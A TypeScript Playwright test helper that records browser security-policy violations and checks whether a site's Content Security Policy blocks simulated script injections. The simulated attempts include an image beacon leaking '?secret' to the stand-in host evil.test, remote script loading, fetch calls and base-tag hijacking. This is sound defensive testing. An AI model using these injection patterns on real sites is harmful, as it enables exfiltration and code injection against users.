import type { BrowserContext, ConsoleMessage, Page } from '@playwright/test';

/** Collects whatever a browser says about a broken security policy, in pages, their workers and the service worker. */
export interface PolicyWatch {
	/** What was reported since the last time it was asked, in words for whoever reads the test's failure. */
	take(): string[];
}

const ABOUT_POLICY = /content security policy|trusted ?(types|html|script)|permissions.policy|unrecognized feature/i;

/** From the next navigation of each page on. */
export async function watchPolicy(context: BrowserContext): Promise<PolicyWatch> {
	const reports: string[] = [];
	const listen = (message: ConsoleMessage): void => {
		if (ABOUT_POLICY.test(message.text())) reports.push(`console: ${message.text()}`);
	};
	context.on('console', listen);
	context.on('serviceworker', (worker) => worker.on('console', listen));
	await context.exposeBinding('policyBroken', ({ page }, report: string) => {
		reports.push(`${new URL(page.url()).pathname}: ${report}`);
	});
	await context.addInitScript(() => {
		const { policyBroken } = window as unknown as { policyBroken: (report: string) => void };
		addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample, sourceFile, lineNumber }) =>
			policyBroken(`${effectiveDirective} ${blockedURI} ${sample} (${sourceFile ?? ''}:${lineNumber})`)
		);
	});
	return { take: () => reports.splice(0) };
}

/** What a script that got into the page might try. Answers the attempts that came through. */
export const tryInjections = (page: Page): Promise<string[]> =>
	page.evaluate(async () => {
		const loaded = (element: HTMLElement): Promise<boolean> =>
			new Promise((resolve) => {
				element.addEventListener('load', () => resolve(true));
				element.addEventListener('error', () => resolve(false));
				document.body.append(element);
			});
		const ran = window as unknown as { injected?: boolean };
		const attempts: Record<string, () => boolean | Promise<boolean>> = {
			'markup made of text'() {
				document.createElement('div').innerHTML = '<b>x</b>';
				return true;
			},
			'a script in the page'() {
				const script = document.createElement('script');
				script.text = 'injected = true';
				document.body.append(script);
				return ran.injected === true;
			},
			'a handler in markup'() {
				const button = document.createElement('button');
				button.setAttribute('onclick', 'injected = true');
				button.click();
				return ran.injected === true;
			},
			// eslint-disable-next-line no-eval -- that it cannot be done is what is tested
			'text that is run': () => eval('true') as boolean,
			'a worker of its own': () => new Worker(URL.createObjectURL(new Blob(['']))) instanceof Worker,
			'a script from elsewhere': () =>
				loaded(Object.assign(document.createElement('script'), { src: 'https://evil.test/' })),
			'a picture that tells on us': () => loaded(Object.assign(new Image(), { src: 'https://evil.test/?secret' })),
			async 'a frame'() {
				const frame = Object.assign(document.createElement('iframe'), { src: '/' });
				await loaded(frame);
				return frame.contentDocument !== null;
			},
			'a request to elsewhere': () => fetch('https://evil.test/').then(() => true),
			'a base for all addresses'() {
				document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.test/' }));
				return new URL('/', document.baseURI).host === 'evil.test';
			}
		};
		const through: string[] = [];
		for (const [name, attempt] of Object.entries(attempts)) {
			// what the tests' own connection to the browser runs may be text; a task of the page may not
			await new Promise((resolve) => setTimeout(resolve));
			try {
				if (await attempt()) through.push(name);
			} catch {
				// that is how most of them are refused
			}
		}
		return through;
	});
